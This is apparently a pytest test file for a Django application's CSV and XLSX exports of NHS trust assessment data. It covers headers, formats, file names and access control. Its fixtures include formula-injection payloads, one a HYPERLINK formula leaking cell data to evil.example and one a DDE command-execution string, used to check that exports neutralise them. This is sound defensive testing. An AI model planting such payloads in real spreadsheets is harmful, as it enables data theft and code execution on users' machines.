"""CSV and XLSX downloads of the comparison: headers, rows, formats, file
names, formula neutralisation, streaming and who may download."""

import csv
import datetime
import io
from decimal import Decimal
from zipfile import ZipFile

import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import Organisation
from competencies.models import Question
from reports import exports
from tests.conftest import make_person
from tests.test_comparison import COMPETENCY_1, submit_with

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "Click")', "+1", "-1", "@SUM(A1:A9)",
           "\tTab first", "\rReturn first"]
MATRIX_HEADER = ["PCT code", "PCT", "SHA", "Cycle", "Status", "Focus", "Rank", "Overall score",
                 "Overall level", "1. Locally lead the NHS (score)", "1. Locally lead the NHS (level)"]
ANSWER_HEADER = ["PCT code", "PCT", "SHA", "Cycle", "Focus", "Question", "Competency",
                 "Question wording", "Answer", "Action", "Owner", "Due date", "Action status"]


@pytest.fixture
def data(pct, sibling_pct, sha, cycle, board_member, other_board_member):
    """North Tyneside: No to competency 1 and question 25 (9 actions; overall
    (0 + 8/9 + 9) / 11 = 89.9%); Sunderland: No to questions 1–6, competency 5
    (6 actions, each hostile; overall 10 / 11 = 90.9%); Hartlepool: nothing submitted."""
    Organisation.objects.create(code="5D9", name="Hartlepool PCT", kind="pct", sha=sha)
    north_tyneside = submit_with(pct, cycle, board_member, no=COMPETENCY_1 | {25})
    sunderland = workflow_with_actions(sibling_pct, cycle, other_board_member)
    return north_tyneside, sunderland


def workflow_with_actions(pct, cycle, user):
    from assessments import workflow
    from assessments.models import Answer

    assessment = workflow.start_assessment(pct=pct, cycle=cycle, user=user)
    answers = list(assessment.answers.select_related("question"))
    for answer in answers:
        number = answer.question.number
        if number <= len(HOSTILE):
            answer.value, answer.action = "no", HOSTILE[number - 1]
            answer.owner, answer.due_date = "=cmd|' /C calc'!A0", datetime.date(2009, 3, 31)
        else:
            answer.value = "yes"
    Answer.objects.bulk_update(answers, ["value", "action", "owner", "due_date"])
    assert workflow.submit(assessment=assessment, user=user) == []
    return assessment


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def workbook(response):
    assert isinstance(response, FileResponse)
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def get(client, name, fmt, **params):
    return client.get(reverse(f"compare:{name}", kwargs={"fmt": fmt}), params)


def test_matrix_csv(client, reviewer, data):
    client.force_login(reviewer)

    response = get(client, "export_matrix", "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="north-east-sha-2008-09-matrix.csv"'
    rows = csv_rows(response)
    assert rows[0][:11] == MATRIX_HEADER
    assert len(rows[0]) == 9 + 2 * 11
    assert len(rows) == 1 + 3  # every PCT, also the one with nothing submitted
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["5D8"][:11] == ["5D8", "North Tyneside PCT", "North East SHA", "2008/09", "Submitted",
                                   "", "2", "89.9", "4", "0.0", "1"]
    assert by_code["5KF"][6:9] == ["1", "90.9", "4"]
    assert by_code["5D9"][4] == "No submitted assessment" and set(by_code["5D9"][5:]) == {""}


def test_matrix_xlsx_formats(client, reviewer, data):
    client.force_login(reviewer)

    response = get(client, "export_matrix", "xlsx")

    assert response["Content-Disposition"] == 'attachment; filename="north-east-sha-2008-09-matrix.xlsx"'
    sheet = workbook(response).active
    assert sheet.title == "Matrix 2008-09"
    # The header row and the PCT codes stay in view; a filter over the whole table.
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:AE4"  # 9 + 2 × 11 columns, 3 PCTs
    assert [c.value for c in sheet[1]][:11] == MATRIX_HEADER
    assert all(c.font.bold for c in sheet[1])
    assert sheet.column_dimensions["B"].width == 36
    assert sheet.max_row == 4
    assert sheet["A2"].value == "5D9" and sheet["E2"].value == "No submitted assessment"
    assert sheet["A3"].value == "5D8"
    assert sheet["H3"].number_format == "0%" and sheet["H3"].value == pytest.approx((8 / 9 + 9) / 11)
    assert sheet["J3"].number_format == "0%" and sheet["J3"].value == 0
    assert sheet["I3"].number_format == "General" and sheet["I3"].value == 4


def test_matrix_says_returned_and_lists_focus_assessments_last(client, reviewer, data, pct, cycle,
                                                             board_member):
    from assessments import workflow

    hartlepool = Organisation.objects.get(code="5D9")
    returned = submit_with(hartlepool, cycle, make_person("hal", hartlepool, "board_member"), no=set())
    workflow.return_to_pct(assessment=returned, user=reviewer, comment="Add evidence.")
    submit_with(pct, cycle, board_member, no=set(), focus="=Obesity strategy")
    client.force_login(reviewer)

    rows = csv_rows(get(client, "export_matrix", "csv"))

    by_code = {row[0]: row for row in rows[1:4]}
    assert by_code["5D9"][4:6] == ["Returned for changes", ""]
    assert by_code["5D8"][4:7] == ["Submitted", "", "2"]
    # The focus assessment after every PCT, not ranked: 100% everywhere, level 4.
    assert rows[4][:9] == ["5D8", "North Tyneside PCT", "North East SHA", "2008/09", "Submitted",
                           "'=Obesity strategy", "", "100.0", "4"]
    assert len(rows) == 1 + 3 + 1


def test_answers_include_focus_assessments_after_the_whole_organisation(client, reviewer, data, pct,
                                                                        cycle, board_member):
    submit_with(pct, cycle, board_member, no=set(), focus="Obesity strategy")
    client.force_login(reviewer)

    rows = csv_rows(get(client, "export_answers", "csv"))

    north_tyneside = [row for row in rows[1:] if row[0] == "5D8"]
    assert [row[4] for row in north_tyneside] == [""] * 112 + ["Obesity strategy"] * 112
    assert len(rows) == 1 + 3 * 112


def test_answers_csv_one_row_per_pct_and_question(client, reviewer, data):
    client.force_login(reviewer)

    response = get(client, "export_answers", "csv")

    assert response["Content-Disposition"] == 'attachment; filename="north-east-sha-2008-09-answers.csv"'
    rows = csv_rows(response)
    assert rows[0] == ANSWER_HEADER
    assert len(rows) == 1 + 2 * 112
    assert rows[1] == ["5D8", "North Tyneside PCT", "North East SHA", "2008/09", "", "1",
                       "5. Manage knowledge and assess needs", Question.objects.get(number=1).text,
                       "Yes", "", "", "", ""]
    no = next(row for row in rows if row[0] == "5D8" and row[5] == "17")
    assert no[8:] == ["No", "Agree a plan", "Director of Commissioning", "2009-03-31", "Open"]


def test_actions_only_rows_with_an_action(client, reviewer, data):
    client.force_login(reviewer)

    rows = csv_rows(get(client, "export_actions", "csv"))

    assert rows[0] == ANSWER_HEADER
    assert len(rows) == 1 + 9 + len(HOSTILE)
    assert all(row[9] for row in rows[1:])


def test_formulas_are_neutralised_in_csv(client, reviewer, data):
    client.force_login(reviewer)

    rows = csv_rows(get(client, "export_actions", "csv"))

    hostile = [row for row in rows[1:] if row[0] == "5KF"]
    assert [row[9] for row in hostile] == ["'" + value for value in HOSTILE]
    assert {row[10] for row in hostile} == {"'=cmd|' /C calc'!A0"}


def test_formulas_are_text_in_xlsx_unchanged_and_quote_prefixed(client, reviewer, data):
    client.force_login(reviewer)

    sheet = workbook(get(client, "export_actions", "xlsx")).active

    hostile = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "5KF"]
    # No apostrophe added: the value is exactly as typed, stored as text, and
    # quote-prefixed, as Excel stores a text typed after an apostrophe, so that
    # it stays text when edited.
    assert [row[9].value for row in hostile] == HOSTILE
    assert {row[10].value for row in hostile} == {"=cmd|' /C calc'!A0"}
    assert all(cell.data_type == "s" and cell.quotePrefix for row in hostile for cell in row[9:11])
    # Ordinary text is not quote-prefixed.
    ordinary = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "5D8")
    assert ordinary[9].value == "Agree a plan" and not ordinary[9].quotePrefix
    assert not any(c.quotePrefix for c in sheet[1])


def test_formula_like_header_is_text_too():
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    cell = exports._header_cell(sheet, "=SUM(A1)")

    assert (cell.value, cell.data_type, cell.quotePrefix, cell.font.bold) == ("=SUM(A1)", "s", True, True)


def test_answers_xlsx_frozen_header_dates_and_widths(client, reviewer, data):
    client.force_login(reviewer)

    response = get(client, "export_answers", "xlsx")

    assert response["Content-Disposition"] == 'attachment; filename="north-east-sha-2008-09-answers.xlsx"'
    assert response["Content-Type"] == exports.XLSX
    sheet = workbook(response).active
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:M225"
    assert [c.value for c in sheet[1]] == ANSWER_HEADER and all(c.font.bold for c in sheet[1])
    assert sheet.max_row == 1 + 2 * 112
    assert sheet.column_dimensions["H"].width == 70 and sheet.column_dimensions["J"].width == 60
    due = [row[11] for row in sheet.iter_rows(min_row=2) if row[11].value is not None]
    assert len(due) == 9 + len(HOSTILE)
    assert all(c.number_format == "dd/mm/yyyy" and c.value == datetime.datetime(2009, 3, 31)
               for c in due)
    assert all(isinstance(row[5].value, int) for row in sheet.iter_rows(min_row=2))
    # Empty text is an empty cell, not a cell holding "".
    assert {row[4].value for row in sheet.iter_rows(min_row=2)} == {None}


def test_control_characters_do_not_break_the_workbook(client, reviewer, pct, cycle, board_member):
    submit_with(pct, cycle, board_member, no={1}, action="Minutes\x08 of the\x0b board\x1f")
    client.force_login(reviewer)

    sheet = workbook(get(client, "export_actions", "xlsx")).active

    assert sheet["J2"].value == "Minutes of the board"


def test_quick_sheet_writes_the_xml_openpyxl_writes():
    """xlsx_sheet writes plain text and numbers itself, and leaves the rest to
    openpyxl: the sheet is byte for byte what openpyxl's own sheet writes."""
    from openpyxl import Workbook

    from reports.xlsx_sheet import quick_sheet

    def sheet_xml(new_sheet) -> bytes:
        workbook = Workbook(write_only=True)
        sheet = new_sheet(workbook)
        sheet.freeze_panes = "B2"
        sheet.append([exports._header_cell(sheet, title) for title in ["Text", "=Heading", "Number"]])
        percent = exports._xlsx_cell(sheet, exports.Column("Score", kind="percent"), 12.5)
        due = exports._xlsx_cell(sheet, exports.Column("Due", kind="date"), datetime.date(2009, 3, 31))
        sheet.append(["Plain", " padded\n", 'Tags <&> "quotes"', "ü ñ 😀", "x" * 40_000, None, ""])
        sheet.append([1, -2.5, 1 / 3, 10**17, 0, float("nan"), True, Decimal("1.50")])
        sheet.append([exports._text_cell(sheet, "=SUM(A1)"), percent, due, datetime.datetime(2009, 3, 31, 9, 30)])
        sheet.auto_filter.ref = "A1:H4"
        file = io.BytesIO()
        workbook.save(file)
        return ZipFile(file).read("xl/worksheets/sheet1.xml")

    ours = sheet_xml(lambda workbook: quick_sheet(workbook, "Sheet"))
    assert ours == sheet_xml(lambda workbook: workbook.create_sheet("Sheet"))
    assert b"<t>Plain</t>" in ours and b"<v>0.3333333333333333</v>" in ours


def test_quick_sheet_writes_text_as_text():
    """Where openpyxl would write an error value (or a formula), text stays text."""
    from openpyxl import Workbook

    from reports.xlsx_sheet import quick_sheet

    workbook = Workbook(write_only=True)
    quick_sheet(workbook, "Sheet").append(["#N/A", "=1+1"])
    file = io.BytesIO()
    workbook.save(file)

    cells = load_workbook(file).active[1]
    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("=1+1", "s")]


def test_neutralise():
    assert [exports.neutralise(v) for v in ["=1+1", "+44 191", "-", "@x", "\tx", "\rx", "a=b", ""]] \
        == ["'=1+1", "'+44 191", "'-", "'@x", "'\tx", "'\rx", "a=b", ""]


def test_filename():
    from assessments.models import Cycle

    assert exports.filename("North East SHA", Cycle(start_year=2008), "answers", "csv") \
        == "north-east-sha-2008-09-answers.csv"
    assert exports.filename("England", Cycle(start_year=2009), "matrix", "xlsx") \
        == "england-2009-10-matrix.xlsx"


def test_admin_exports_england_or_one_sha(client, admin_user, data, other_sha_pct, cycle):
    submit_with(other_sha_pct, cycle, make_person("brenda", other_sha_pct, "board_member"), no={1})
    client.force_login(admin_user)

    national = get(client, "export_answers", "csv")
    london = get(client, "export_matrix", "csv", sha="Q36")

    assert national["Content-Disposition"] == 'attachment; filename="england-2008-09-answers.csv"'
    assert len(csv_rows(national)) == 1 + 3 * 112
    assert london["Content-Disposition"] == 'attachment; filename="london-sha-2008-09-matrix.csv"'
    assert [row[1] for row in csv_rows(london)[1:]] == ["Brent PCT"]


def test_other_cycle_by_parameter(client, reviewer, data):
    from assessments.models import Cycle

    Cycle.objects.create(start_year=2009)
    client.force_login(reviewer)

    response = get(client, "export_answers", "csv", cycle="2009")

    assert response["Content-Disposition"] == 'attachment; filename="north-east-sha-2009-10-answers.csv"'
    assert csv_rows(response) == [ANSWER_HEADER]


def test_an_empty_xlsx_still_has_its_header_filter_and_panes(client, reviewer, data):
    from assessments.models import Cycle

    Cycle.objects.create(start_year=2009)
    client.force_login(reviewer)

    sheet = workbook(get(client, "export_answers", "xlsx", cycle="2009")).active

    assert [c.value for c in sheet[1]] == ANSWER_HEADER and sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:M1" and sheet.freeze_panes == "B2"


@pytest.mark.parametrize("name", ["export_matrix", "export_answers", "export_actions"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_board_members_and_other_shas_get_404(client, board_member, other_reviewer, data, name, fmt):
    # A board member may not see other PCTs' names, so gets none of the SHA-wide downloads.
    client.force_login(board_member)
    assert get(client, name, fmt).status_code == 404
    client.force_login(other_reviewer)
    assert get(client, name, fmt, sha="Q30").status_code == 404
    own = get(client, name, fmt)
    assert own.status_code == 200
    body = b"".join(own.streaming_content)
    assert b"North Tyneside" not in body and b"Sunderland" not in body


@pytest.mark.parametrize("name", ["export_matrix", "export_answers", "export_actions"])
def test_anonymous_is_sent_to_log_in(client, cycle, name):
    response = get(client, name, "csv")

    assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_unknown_format_or_export_is_404(client, reviewer, data):
    client.force_login(reviewer)

    assert client.get("/compare/export/matrix.pdf").status_code == 404
    assert client.get("/compare/export/secrets.csv").status_code == 404


def test_answers_export_queries_do_not_grow_with_pcts(client, reviewer, data, sha, cycle,
                                                      django_assert_num_queries):
    client.force_login(reviewer)

    def download():
        # Session, user, membership, cycles, an aggregate of the SHA's
        # assessments (the latest cycle), the assessments, then the answers
        # read in chunks as the file streams (one query while under 2,000 rows).
        with django_assert_num_queries(7):
            csv_rows(get(client, "export_answers", "csv"))

    download()
    for n in range(3):
        extra = Organisation.objects.create(code=f"X{n}", name=f"Extra PCT {n}", kind="pct", sha=sha)
        submit_with(extra, cycle, make_person(f"board{n}", extra, "board_member"), no={n + 1})
    download()
